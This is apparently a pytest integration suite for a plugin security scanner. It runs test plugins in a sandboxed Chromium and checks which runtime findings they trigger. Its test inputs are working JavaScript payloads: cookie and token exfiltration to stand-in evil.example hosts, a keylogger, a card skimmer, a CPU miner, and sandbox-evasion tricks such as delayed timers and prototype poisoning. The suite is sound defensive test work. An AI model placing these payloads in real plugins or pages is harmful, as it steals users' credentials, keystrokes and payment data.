"""Real Chromium: hostile plugins are caught in the act, benign ones stay quiet."""

from __future__ import annotations

import json
import os
import shutil
import tempfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from sandbox.browser import BrowserPool, BrowserSettings, browser_processes
from sandbox.detonation import DetonationRequest
from scanner.findings import Category, Finding, Severity, StageStatus
from scanner.stages.runtime import RuntimeStage
from scanner.workspace import Workspace
from tests.conftest import manifest

pytestmark = pytest.mark.integration


@pytest.fixture(scope="module")
def pool() -> Iterator[BrowserPool]:
    if not Path("/usr/bin/chromium").exists():
        pytest.fail("chromium is not installed: run scripts/setup")
    p = BrowserPool(BrowserSettings())
    yield p
    p.close()


def _plugin(tmp_path: Path, body: str, **manifest_changes: Any) -> Workspace:
    root = tmp_path / "bundle"
    (root / "dist").mkdir(parents=True)
    (root / "plugin.json").write_text(json.dumps(manifest(**manifest_changes)))
    (root / "dist" / "bundle.js").write_text(
        "var TestPlugin = { mount: function (container, ctx) {"
        + body
        + " return function () {}; } };"
    )
    return Workspace.from_directory(root)


def _run(pool: BrowserPool, ws: Workspace, limit: float = 15.0) -> tuple[list[Finding], Any]:
    result = RuntimeStage(pool, limit).run(ws)
    return result.findings, result


def _hello_request(ws: Workspace) -> DetonationRequest:
    """A plain user-role detonation of ``ws``, for tests about the pool, not the plugin."""
    return DetonationRequest(
        root=ws.root,
        files=tuple(f.path for f in ws.files),
        entry="dist/bundle.js",
        styles=(),
        global_name="TestPlugin",
        allowed_origins=(),
        csp="default-src 'none'",
        role="user",
        time_limit_s=5,
    )


def _rules(findings: list[Finding], role: str = "user") -> set[str]:
    return {f.rule_id for f in findings if f.message.endswith(f"(as {role})")}


def _events(result: Any, role: str = "user") -> list[dict[str, Any]]:
    events: list[dict[str, Any]] = json.loads(result.artifacts[f"trace-{role}.json"])["events"]
    return events


def _probes(result: Any) -> list[str]:
    """URLs a test plugin reported its findings about the sandbox to."""
    return [str(e["url"]) for e in _events(result) if "probe.evil.example" in str(e.get("url", ""))]


def _polls(result: Any) -> int:
    return sum(
        1 for e in _events(result) if e["type"] == "request" and "/messages" in e.get("url", "")
    )


# A payload's act: the session cookie to an undeclared host.
STEAL = "fetch('https://x.evil.example/?c=' + encodeURIComponent(document.cookie));"


def test_delayed_cookie_theft_fires_under_the_fast_forwarded_clock(
    pool: BrowserPool, tmp_path: Path
) -> None:
    body = (
        "setTimeout(function () { fetch('https://c.evil.example/?c=' + encodeURIComponent(document.cookie)); },"
        " 3 * 3600 * 1000);"
    )
    findings, result = _run(pool, _plugin(tmp_path, body))
    assert result.status is StageStatus.OK
    theft = [f for f in findings if f.rule_id == "runtime-exfiltration"]
    assert theft and theft[0].severity is Severity.CRITICAL and "session cookie" in theft[0].message
    assert "runtime-cookie-read" in _rules(findings)
    assert {"trace-user.json", "trace-admin.json", "screenshot-user.png"} <= set(result.artifacts)
    assert result.artifacts["screenshot-user.png"].startswith(b"\x89PNG")


def test_keylogger_on_the_host_page(pool: BrowserPool, tmp_path: Path) -> None:
    body = (
        "var keys = ''; document.addEventListener('keydown', function (e) { keys += e.key; });"
        "setInterval(function () { if (keys) navigator.sendBeacon('https://k.evil.example/k', keys); }, 5000);"
    )
    findings, _ = _run(pool, _plugin(tmp_path, body))
    rules = _rules(findings)
    assert {"runtime-page-input-listener", "runtime-exfiltration"} <= rules
    assert any("typed password" in f.message for f in findings)


def test_payload_that_targets_admins_only(pool: BrowserPool, tmp_path: Path) -> None:
    body = (
        "if (ctx.auth.getUser().role === 'admin') {"
        " fetch('https://a.evil.example/t', {method: 'POST', body: ctx.auth.getToken()}); }"
    )
    findings, _ = _run(pool, _plugin(tmp_path, body))
    assert "runtime-exfiltration" in _rules(findings, "admin")
    assert "runtime-exfiltration" not in _rules(findings, "user")


def test_websocket_exfiltration_is_recorded_without_leaving(
    pool: BrowserPool, tmp_path: Path
) -> None:
    body = (
        "var ws = new WebSocket('wss://ws.evil.example/live');"
        "ws.onopen = function () { ws.send(localStorage.getItem('auth_token')); };"
    )
    findings, _ = _run(pool, _plugin(tmp_path, body))
    assert {"runtime-exfiltration", "runtime-storage-token-read"} <= _rules(findings)


def test_webrtc_is_refused_and_recorded(pool: BrowserPool, tmp_path: Path) -> None:
    body = (
        "try { new RTCPeerConnection({iceServers: [{urls: 'stun:stun.evil.example:3478'}]}); container.textContent = 'open'; }"
        " catch (e) { container.textContent = 'refused'; }"
    )
    findings, result = _run(pool, _plugin(tmp_path, body))
    assert "runtime-webrtc" in _rules(findings)
    assert json.loads(result.artifacts["trace-user.json"])["mount_error"] is None


def test_dom_escape_and_global_override(pool: BrowserPool, tmp_path: Path) -> None:
    body = (
        "var b = document.createElement('div'); b.textContent = 'Sale!'; document.body.appendChild(b);"
        "var orig = window.fetch; window.fetch = function (u, o) { return orig(u, o); };"
    )
    findings, _ = _run(pool, _plugin(tmp_path, body))
    assert {"runtime-dom-outside-container", "runtime-global-override"} <= _rules(findings)


def test_benign_plugin_using_its_declared_api_is_quiet(pool: BrowserPool, tmp_path: Path) -> None:
    body = (
        "var f = document.createElement('form'); var i = document.createElement('input'); i.name = 'note';"
        "var btn = document.createElement('button'); btn.textContent = 'Save'; f.appendChild(i); f.appendChild(btn);"
        "f.addEventListener('submit', function (e) { e.preventDefault();"
        " fetch('https://api.acme.example/notes', {method: 'POST', body: JSON.stringify({note: i.value})}); });"
        "container.appendChild(f); localStorage.setItem('notes:v1', '[]');"
    )
    ws = _plugin(
        tmp_path, body, capabilities={"network": ["https://api.acme.example"], "storage": True}
    )
    findings, result = _run(pool, ws)
    assert result.status is StageStatus.OK
    assert [f for f in findings if f.severity >= Severity.MEDIUM] == []
    trace = json.loads(result.artifacts["trace-user.json"])
    assert any(
        r["outcome"] == "declared" and "api.acme.example" in r["url"] for r in trace["requests"]
    )
    assert "connect-src 'self' https://api.acme.example" in result.raw["csp"]


POLLS = {
    "direct": "setInterval(function () { n += 1; ctx.api.fetch('/messages')"
    ".then(function (r) { return r.text(); }).then(function (t) { container.textContent = n + ':' + t.length; })"
    ".catch(function () {}); }, 5000);",
    # The request is made in a promise job the tick queued, after the tick returned.
    "async": "async function refresh() { n += 1; var who = await Promise.resolve('me');"
    " var r = await ctx.api.fetch('/messages?for=' + who); container.textContent = (await r.text()).length; }"
    " setInterval(function () { refresh().catch(function () {}); }, 5000);",
}


@pytest.mark.parametrize("poll", sorted(POLLS))
def test_a_poll_every_few_seconds_is_not_a_flood(
    pool: BrowserPool, tmp_path: Path, poll: str
) -> None:
    """Seven hours jumped would fire a 5 s poll 5,000 times; intervals catch up a bounded
    number of ticks per jump, so an ordinary chat widget is neither CPU burn nor a flood,
    and the detonation stays well inside its time limit."""
    findings, result = _run(pool, _plugin(tmp_path, "var n = 0; " + POLLS[poll]))
    assert result.status is StageStatus.OK
    assert [f for f in findings if f.severity >= Severity.MEDIUM] == []
    assert not json.loads(result.artifacts["trace-user.json"]).get("dropped")
    # Every jump still fires it (1 s, 10 s, 1 min at full rate; the long ones up to the cap).
    assert 100 < _polls(result) < 600


def test_the_clock_reads_nothing_the_page_redefined(pool: BrowserPool, tmp_path: Path) -> None:
    """A jump the host waits for: a page that redefines how promises are awaited (species,
    a thenable Object.prototype) neither sees the jump nor stops it."""
    body = (
        "var seen = function (what) { navigator.sendBeacon('https://probe.evil.example/' + what); };"
        "Object.defineProperty(Promise.prototype, 'constructor', { configurable: true,"
        " get: function () { seen('species'); return Promise; } });"
        # Only the jump's answer has a "fired": anything else reading "then" is not the clock.
        "Object.defineProperty(Object.prototype, 'then', { configurable: true,"
        " get: function () { if (this && 'fired' in this) seen('then'); return undefined; } });"
        "setTimeout(function () { fetch('https://c.evil.example/?c=' + encodeURIComponent(document.cookie)); },"
        " 2 * 3600 * 1000);"
    )
    findings, result = _run(pool, _plugin(tmp_path, body))
    assert "runtime-exfiltration" in _rules(findings)
    assert _probes(result) == []


def test_the_host_leaves_no_trace_a_plugin_could_test(pool: BrowserPool, tmp_path: Path) -> None:
    """A plugin looking for the sandbox finds nothing of ours: no driver frame in the
    stack of its mount, no global it can list, no read of a "then" it defined."""
    body = (
        "var seen = []; if (/UtilityScript|evaluate|playwright/i.test(new Error().stack)) seen.push('stack');"
        "Object.defineProperty(Object.prototype, 'then', { configurable: true,"
        " get: function () { if (seen.indexOf('then') < 0) seen.push('then'); return undefined; } });"
        "var mine = Object.getOwnPropertyNames(window); setTimeout(function () {"
        " Object.getOwnPropertyNames(window).forEach(function (k) {"
        "  if (mine.indexOf(k) < 0 && k !== 'seen') seen.push('global-' + k); });"
        " navigator.sendBeacon('https://probe.evil.example/saw/' + seen.join(',')); }, 1000);"
    )
    _, result = _run(pool, _plugin(tmp_path, body))
    assert result.status is StageStatus.OK
    assert _probes(result) == ["https://probe.evil.example/saw/"]


WAITING = {
    # Anti-sandbox code waits for a person: several trusted mouse moves, then it acts.
    "eight-mouse-moves": "var moves = 0; document.addEventListener('mousemove', function (e) {"
    " if (e.isTrusted && ++moves === 8) " + STEAL + " });",
    # Each timer fires at its own due time: one set 1 h 12 min in, for a minute later,
    # fires within the six-hour jump as it would on a visitor's page.
    "timer-set-by-a-timer": "setTimeout(function () { setTimeout(function () { " + STEAL + " },"
    " 61000); }, 4300 * 1000);",
    # Ticks that do nothing we record are not capped: a payload acting after 500 ticks of
    # a one-second interval (eight minutes on the page) fires within the jumps...
    "silent-tick-counter": "var n = 0; setInterval(function () { n += 1; if (n === 500) "
    + STEAL
    + " }, 1000);",
    # ...even beside a 1 ms interval doing nothing, which takes its share, not all.
    "counter-beside-a-busy-decoy": "setInterval(function () {}, 1); var n = 0;"
    " setInterval(function () { n += 1; if (n === 500) " + STEAL + " }, 1000);",
    # A long timeout set from a 1 ms decoy's tick is a line of its own: the decoy using up
    # its bounds does not push the payload past every jump.
    "armed-by-a-busy-ticker": "var armed = false, t0 = Date.now(); setInterval(function () {"
    " if (!armed && Date.now() - t0 > 5000) { armed = true; setTimeout(function () { "
    + STEAL
    + " }, 30 * 60000); } }, 1);",
}


@pytest.mark.parametrize("wait", sorted(WAITING))
def test_a_waiting_payload_still_fires(pool: BrowserPool, tmp_path: Path, wait: str) -> None:
    findings, _ = _run(pool, _plugin(tmp_path, WAITING[wait]))
    assert "runtime-exfiltration" in _rules(findings)


def test_no_frame_of_ours_gives_its_function_or_receiver_to_mount(
    pool: BrowserPool, tmp_path: Path
) -> None:
    """Structured stack traces show a plugin no function or receiver below its own frame:
    the command that mounted it (nonce and all) stays out of reach."""
    body = (
        "Error.prepareStackTrace = function (e, cs) { return cs; }; var cs = new Error().stack;"
        " Error.prepareStackTrace = undefined; var got = [];"
        " cs.slice(1).forEach(function (f) { try { if (f.getFunction() || f.getThis()) got.push(f.getFunctionName()); }"
        " catch (e) {} });"
        " navigator.sendBeacon('https://probe.evil.example/frames/' + got.length);"
    )
    _, result = _run(pool, _plugin(tmp_path, body))
    assert _probes(result) == ["https://probe.evil.example/frames/0"]


def test_fields_are_filled_whatever_the_page_did_to_string_and_arrays(
    pool: BrowserPool, tmp_path: Path
) -> None:
    """A skimmer that breaks String and Array.prototype before the host lists the fields
    still gets a card number typed into the host's form, and is caught sending it."""
    body = (
        "var S = String; window.String = new Proxy(S, { apply: function (t, self, a) {"
        " if (typeof a[0] === 'string' && a[0].indexOf('input:not') === 0) throw new Error('no');"
        " return Reflect.apply(t, self, a); } });"
        "Object.defineProperty(Array.prototype, '0', { configurable: true, set: function () {},"
        " get: function () { return undefined; } });"
        "document.querySelector('#host-checkout input[name=cardnumber]').addEventListener('input',"
        " function (e) { navigator.sendBeacon('https://s.evil.example/c', e.target.value); });"
    )
    findings, _ = _run(pool, _plugin(tmp_path, body))
    assert "runtime-exfiltration" in _rules(findings)


def test_a_token_read_after_unmount_is_counted(pool: BrowserPool, tmp_path: Path) -> None:
    tail = "return function () { setTimeout(function () { ctx.auth.getToken(); }, 30000); };"
    _, result = _run(pool, _plugin(tmp_path, tail))
    assert [e["count"] for e in _events(result) if e["type"] == "token-read"] == [1]


def test_a_chain_of_timeouts_is_capped_like_an_interval(pool: BrowserPool, tmp_path: Path) -> None:
    """A poll written as a timeout that sets the next one is one line of timers: bounded
    per jump, like an interval, so it is neither a flood nor CPU burn."""
    body = (
        "(function poll() { ctx.api.fetch('/messages').catch(function () {});"
        " setTimeout(poll, 5000); })();"
    )
    findings, result = _run(pool, _plugin(tmp_path, body))
    assert [f for f in findings if f.severity >= Severity.MEDIUM] == []
    assert 100 < _polls(result) < 600


def test_a_light_ticker_is_not_a_burn_and_a_heavy_one_is(pool: BrowserPool, tmp_path: Path) -> None:
    """Hours of an interval's ticks run in a moment are the clock's doing: a ticker doing
    a little work each time is quiet, one doing tens of milliseconds of hashing is not."""

    def ticker(work_ms: int, every_ms: int) -> str:
        return (
            f"setInterval(function () {{ var end = performance.now() + {work_ms}, h = 1;"
            " while (performance.now() < end) { h = Math.imul(h ^ 7, 16777619); }"
            f" container.textContent = String(h); }}, {every_ms});"
        )

    light, _ = _run(pool, _plugin(tmp_path / "light", ticker(2, 50)))
    assert [f for f in light if f.severity >= Severity.MEDIUM] == []
    heavy, _ = _run(pool, _plugin(tmp_path / "heavy", ticker(40, 100)))
    assert "runtime-cpu-burn" in _rules(heavy)


def test_a_miner_in_a_zero_delay_chain_is_a_burn(pool: BrowserPool, tmp_path: Path) -> None:
    """Links of a zero-delay chain stand for no simulated time: their work is not credited
    to the clock, and hashing in them counts as the page's own CPU."""
    body = (
        "(function chunk() { var end = performance.now() + 9, h = 1;"
        " while (performance.now() < end) { h = Math.imul(h ^ 7, 16777619); }"
        " container.textContent = String(h); setTimeout(chunk, 0); })();"
    )
    findings, _ = _run(pool, _plugin(tmp_path, body))
    assert "runtime-cpu-burn" in _rules(findings)


def test_a_busy_page_is_measured_by_its_own_main_thread(pool: BrowserPool, tmp_path: Path) -> None:
    """The page's CPU is its own main thread's, not the whole browser's (which also runs
    the other role's page side by side)."""
    body = (
        "setTimeout(function () { var h = 1;"
        " for (var i = 0; i < 6e8; i++) { h = Math.imul(h ^ i, 16777619); } }, 1000);"
        "container.textContent = 'hashing';"
    )
    _, busy = _run(pool, _plugin(tmp_path / "busy", body))
    _, idle = _run(pool, _plugin(tmp_path / "idle", "container.textContent = 'ok';"))
    busy_cpu = json.loads(busy.artifacts["trace-user.json"])["page_cpu_seconds"]
    idle_cpu = json.loads(idle.artifacts["trace-user.json"])["page_cpu_seconds"]
    assert busy_cpu is not None and idle_cpu is not None
    assert busy_cpu > 0.3 and busy_cpu > 3 * idle_cpu


def test_a_worklet_counts_as_code_off_the_page_thread(pool: BrowserPool, tmp_path: Path) -> None:
    """Compute in a worklet is judged like a worker's (the browser's CPU, not the page's)."""
    body = (
        "var src = URL.createObjectURL(new Blob(['registerPaint(\"x\", class { paint() {} });']));"
        "CSS.paintWorklet.addModule(src); container.textContent = 'ok';"
    )
    _, result = _run(pool, _plugin(tmp_path, body))
    events = _events(result)
    assert any(e.get("type") == "worker" and e.get("kind") == "Worklet" for e in events)


def test_mount_failure_fails_closed(pool: BrowserPool, tmp_path: Path) -> None:
    findings, _ = _run(pool, _plugin(tmp_path, "", globalName="SomethingElse"))
    assert {f.category for f in findings} == {Category.COVERAGE}


def test_endless_mount_times_out_and_the_pool_recovers(pool: BrowserPool, tmp_path: Path) -> None:
    _, result = _run(pool, _plugin(tmp_path / "a", "while (true) {}"), limit=2.0)
    assert result.status is StageStatus.TIMEOUT
    _, after = _run(pool, _plugin(tmp_path / "b", "container.textContent = 'ok';"))
    assert after.status is StageStatus.OK


def test_no_browser_or_profile_left_after_100_scans(tmp_path: Path, pool: BrowserPool) -> None:
    """Profiles live in the jail's private home, which goes with the session."""
    # The module's pool may still be relaunching after an earlier test's abort: a
    # detonation through it waits for that, so its browser is counted as "before".
    pool.detonate(_hello_request(_plugin(tmp_path / "settle", "container.textContent = 1;")), 60)
    # Only this process's homes count: other test runs on the machine make their own.
    mine = f"gatehouse-browser-{os.getpid()}-*"
    homes_before = set(Path(tempfile.gettempdir()).glob(mine))
    browsers_before = set(
        browser_processes(include_driver=True)
    )  # the module's own pool may be running
    ws = _plugin(tmp_path, "container.textContent = 'hello';")
    mine_pool = BrowserPool(BrowserSettings(max_scans=25))  # forces restarts along the way
    request = _hello_request(ws)
    try:
        for _ in range(100):
            trace = mine_pool.detonate(request, timeout=60)
            assert trace.error is None and trace.mount_error is None
        assert mine_pool.launches >= 4
    finally:
        mine_pool.close()
    assert set(browser_processes(include_driver=True)) - browsers_before == set()
    leftovers = set(Path(tempfile.gettempdir()).glob(mine)) - homes_before
    assert leftovers == set(), leftovers
    shutil.rmtree(tmp_path, ignore_errors=True)


def test_chromium_killed_again_and_again_under_load_never_wedges_the_pool(
    tmp_path: Path,
) -> None:
    """The wedge of issue 15: kills 1.4 s apart while detonations run. Every call comes
    back within its bound, the pool reports itself down and comes back on its own."""
    import os
    import signal
    import threading
    import time

    states = tmp_path / "states"
    pool = BrowserPool(BrowserSettings(status_dir=states, retry_pause=0.5))
    ws = _plugin(tmp_path, "container.textContent = 'hello';")
    request = _hello_request(ws)
    outcomes: list[str] = []
    stop = threading.Event()
    seen_down = threading.Event()

    def load() -> None:
        while not stop.is_set():
            start = time.monotonic()
            try:
                trace = pool.detonate(request, timeout=30)
                outcomes.append("ok" if trace.error is None else "error")
            except TimeoutError:
                pool.abort()
                outcomes.append("timeout")
            except Exception:
                outcomes.append("unavailable")
            assert time.monotonic() - start < 31

    def chromium() -> list[int]:
        session = pool._session
        jail = session.jail if session is not None else None
        members = jail.members() if jail is not None else []
        return [p for p in members if "chrom" in Path(f"/proc/{p}/comm").read_text()]

    worker = threading.Thread(target=load)
    try:
        pool.detonate(request, timeout=60)  # warm
        worker.start()
        for pause in (1.0, 1.4, 2.0, 1.4, 3.0, 1.4):
            time.sleep(pause)
            for pid in chromium():
                try:
                    os.kill(pid, signal.SIGKILL)
                except ProcessLookupError:
                    continue
            if pool.state == "down":
                seen_down.set()
        stop.set()
        worker.join(timeout=120)
        assert not worker.is_alive(), "a detonation hung"
        assert outcomes, "nothing ran under load"
        after = [pool.detonate(request, timeout=60) for _ in range(3)]
        assert all(t.error is None and t.mount_error is None for t in after)
        record = json.loads((states / f"{os.getpid()}.json").read_text())
        assert record["state"] == "ready"
    finally:
        stop.set()
        pool.close()


def test_a_memory_hog_is_stopped_during_the_detonation(tmp_path: Path) -> None:
    cap = 600 * 1024 * 1024
    pool = BrowserPool(BrowserSettings(max_memory_bytes=cap, watch_every=0.1))
    hog = (
        "var keep = []; var t = Date.now();"
        " while (Date.now() - t < 8000) { keep.push(new Float64Array(4 * 1024 * 1024).fill(1)); }"
    )
    try:
        result = RuntimeStage(pool, 15.0).run(_plugin(tmp_path, hog))
    finally:
        pool.close()
    assert result.status is StageStatus.ERROR
    assert "memory" in (result.error or "")
    assert "runtime-memory-exhaustion" in {f.rule_id for f in result.findings}
